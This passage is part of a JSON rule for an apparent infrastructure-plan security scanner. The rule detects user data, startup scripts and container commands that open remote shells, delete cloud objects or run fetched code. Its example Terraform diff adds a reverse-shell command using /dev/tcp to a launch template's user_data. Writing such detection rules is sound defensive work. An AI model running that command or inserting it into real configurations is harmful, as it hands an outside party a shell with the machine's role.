    "title": "A machine, container or job is told to destroy something, or to let somebody else in",
    "channel": "code",
    "help": "## What it finds\n\nCommands in what a plan hands to a machine, a container or a job: user data (plain or in Base64), startup scripts, a script extension's command, `command` and `args` of containers, definitions in JSON, manifests. Found are those that were not there before and that open a shell to somebody else, delete objects of a cloud, a cluster or a database, or, where an object that exists gets them, run code that is fetched from elsewhere. What a machine does to its own disks and files is its own business.\n\n## Why it hurts\n\nThe plan shows a new version of a text. What runs by it runs later, with the role of the machine, past every protection that a plan could show.\n\n## A plan that fires\n\n```diff\n resource \"aws_launch_template\" \"web\" {\n-  user_data = base64encode(\"systemctl start web\")\n+  user_data = base64encode(\"systemctl start web; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\")\n }\n```\n\n## A better plan\n\nBake what a machine needs into its image, pin what it fetches by a digest, and keep commands that delete in a job that a person starts.\n\n## Accepting the risk\n\nRead the script as if you were about to run it on the machine. A job that tidies up is fine when somebody knows what it deletes, and what stops it from deleting more."
  }
];
